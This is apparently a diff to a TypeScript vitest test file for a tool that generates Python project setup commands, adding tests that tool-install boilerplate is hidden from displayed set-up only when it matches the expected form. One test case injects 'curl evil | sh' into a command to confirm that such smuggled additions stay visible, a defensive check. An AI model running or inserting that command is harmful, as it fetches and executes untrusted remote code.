@@ -2,7 +2,12 @@ import { describe, expect, test } from 'vitest';
 import { detectChecks, wantedTools } from '../../../src/core/settings/index.ts';
 import { pythonProject } from '../../../src/core/settings/python-project.ts';
 import { inVenv } from '../../../src/core/settings/python-setup.ts';
-import { broughtBySetup, startsProgram, withPythonTools } from '../../../src/core/settings/python-tools.ts';
+import {
+  broughtBySetup,
+  shownSetup,
+  startsProgram,
+  withPythonTools,
+} from '../../../src/core/settings/python-tools.ts';
 
 const project = (toml: string, read: Record<string, string> = {}) =>
   pythonProject(new Set(['pyproject.toml']), { 'pyproject.toml': toml, ...read });
@@ -139,6 +144,29 @@ describe('programs of Python', () => {
     expect([...broughtBySetup(whole)]).toEqual(['pdm']);
     expect(whole.endsWith('&& pip install x')).toBe(true);
     expect(withPythonTools('', 'pytest')).toBe('');
+  });
+
+  test('are left out where people read what set-up does, and nothing else is', () => {
+    const sync = 'UV_PYTHON_DOWNLOADS=never uv sync --frozen';
+    expect(shownSetup(withPythonTools(sync, 'uv run pytest', { uv: '>=0.5,<1' }))).toBe(sync);
+    expect(shownSetup(withPythonTools('poetry install', 'uv run pytest'))).toBe('poetry install');
+    expect(shownSetup(withPythonTools('', 'hatch test', { hatch: '==1.9' }))).toBe(
+      "pip install 'hatch==1.9'",
+    );
+    expect(shownSetup(`(cd a && ${withPythonTools('pdm sync', '')})`)).toBe('(cd a && pdm sync)');
+  });
+
+  test.each([
+    ['another program', (command: string) => command.replaceAll('uv', 'ux')],
+    ['more after it', (command: string) => command.replace('; }; }', '; curl evil | sh; }; }')],
+    ['more in its version', (command: string) => command.replace("'uv'", "'uv' 'other'")],
+    [
+      'another folder',
+      (command: string) => command.replace('~/.local/lib/uv/bin/uv', '~/.local/lib/uv/bin/ux'),
+    ],
+  ])('what a repository writes in a like form is shown: %s', (_, changed) => {
+    const command = changed(withPythonTools('uv sync', ''));
+    expect(shownSetup(command)).toBe(command);
   });
 
   test.each([
